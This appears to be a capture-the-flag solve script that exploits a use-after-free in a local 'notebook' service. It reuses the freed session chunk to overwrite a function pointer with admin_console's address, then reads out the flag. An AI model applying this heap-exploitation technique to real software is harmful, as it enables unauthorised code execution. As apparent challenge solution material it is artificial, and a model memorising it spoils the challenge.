#!/bin/bash
# "log out" frees the 32-byte session (char user[24]; greet function pointer) but keeps using it.
# A new note with a 32-byte body is served the same chunk from the tcache, so its bytes 24..31
# replace session->greet; "greet me" then calls admin_console (fixed address, not PIE).
set -e
win=$(readelf -sW notebook | awk '$8 == "admin_console" {print $2}')
python3 - "$win" <<'PY'
import re, socket, struct, sys
win = int(sys.argv[1], 16)
s = socket.create_connection(("127.0.0.1", 9107)); s.settimeout(10)
def until(tok):
    buf = b""
    while tok not in buf:
        d = s.recv(4096)
        if not d: break
        buf += d
    return buf
def menu(choice):
    until(b"> "); s.sendall(choice + b"\n")
menu(b"1"); until(b"Username: "); s.sendall(b"alice\n")
menu(b"2")
menu(b"4"); until(b"): "); s.sendall(b"32\n")
until(b"bytes): "); s.sendall(b"B" * 24 + struct.pack("<Q", win))
menu(b"3")
out = b""
try:
    while True:
        d = s.recv(4096)
        if not d: break
        out += d
except socket.timeout:
    pass
print(re.search(rb"flag\{[^}]+\}", out).group(0).decode())
PY
